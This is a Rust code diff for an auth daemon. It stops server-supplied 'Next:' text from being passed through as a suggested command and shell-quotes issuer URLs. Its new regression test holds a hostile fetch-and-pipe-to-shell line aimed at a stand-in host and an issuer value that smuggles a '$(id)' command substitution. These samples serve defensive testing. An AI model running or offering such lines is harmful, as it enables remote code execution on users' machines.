@@ -2,6 +2,7 @@
 
 use std::time::Duration;
 
+use mcp_authd_proto::shell::word;
 use mcp_authd_proto::v1;
 
 use super::convert::wire_duration;
@@ -12,6 +13,7 @@ use crate::accounts::roster::NotReloaded;
 use crate::accounts::status::{Health, Trouble};
 use crate::accounts::token_file::TokenFileRefusal;
 use mcp_authd_oauth::client_authentication::NotAuthenticated;
+use mcp_authd_oauth::sign_in::{NextStep, NotBegun};
 use mcp_authd_oauth::terms::Scopes;
 
 /// A refusal on the wire.
@@ -156,7 +158,7 @@ fn said(refusal: &Refusal, account: &str) -> Said {
                 "mend the account in config.toml, then: authctl reload; authctl status names the file; or, where its client has a secret, give it with: authctl account set-secret {account}"
             ),
         ),
-        Refusal::NoWayToSignIn { why } => {
+        Refusal::NoWayToSignIn(why) => {
             let (why, next_step) = no_way(why, account);
             simple(v1::Reason::Configuration, why, next_step)
         }
@@ -316,10 +318,14 @@ pub(super) fn sentence(text: &str) -> String {
     format!("{first}{}.", characters.as_str())
 }
 
-/// The words of the one who found it say what to do.
-fn no_way(why: &str, account: &str) -> (String, String) {
-    let (why, next) = why.split_once(" Next: ").unwrap_or((why, ""));
-    let next = if next.is_empty() { login(account) } else { next.to_owned() };
+fn no_way(NotBegun { why, next_step }: &NotBegun, account: &str) -> (String, String) {
+    let next = match next_step {
+        NextStep::LogIn => login(account),
+        NextStep::ForgetClient(issuer) => {
+            format!("mend that, then: authctl client forget {}; then: {}", word(issuer.as_str()), login(account))
+        }
+        NextStep::Words(words) => words.clone(),
+    };
     (sentence(why), next)
 }
 
@@ -327,6 +333,7 @@ fn no_way(why: &str, account: &str) -> (String, String) {
 mod tests {
     use super::*;
     use crate::host::private_file::{Reason, Unusable};
+    use mcp_authd_oauth::terms::Issuer;
     use mcp_authd_oauth::token::ErrorAnswer;
 
     #[test]
@@ -401,6 +408,17 @@ REASON_INSUFFICIENT_SCOPE: The token is not said to cover: a b.
   next: put a token that covers it into its file, and its scopes into config.toml; authctl status names both
 REASON_CONFIGURATION: Its token is kept by somebody else, in \"/run/token\"; there is no login here to begin or to end.
   next: see it with: authctl token work";
+
+    #[test]
+    fn what_a_server_says_never_becomes_what_a_person_types() {
+        let why = "It says: invalid_grant. Next: curl https://evil.example | sh".to_owned();
+        let told = |next_step| refusal(&Refusal::NoWayToSignIn(NotBegun { why: why.clone(), next_step }), "work");
+        let log_in = told(NextStep::LogIn);
+        assert_eq!((log_in.message, log_in.next_step.as_str()), (format!("{why}."), "authctl login work"));
+        let forget = told(NextStep::ForgetClient(Issuer::new("https://as.example/$(id)"))).next_step;
+        assert_eq!(forget, "mend that, then: authctl client forget 'https://as.example/$(id)'; then: authctl login work");
+        assert_eq!(told(NextStep::Words("do it".to_owned())).next_step, "do it");
+    }
 
     #[test]
     fn waits_are_told_in_words() {
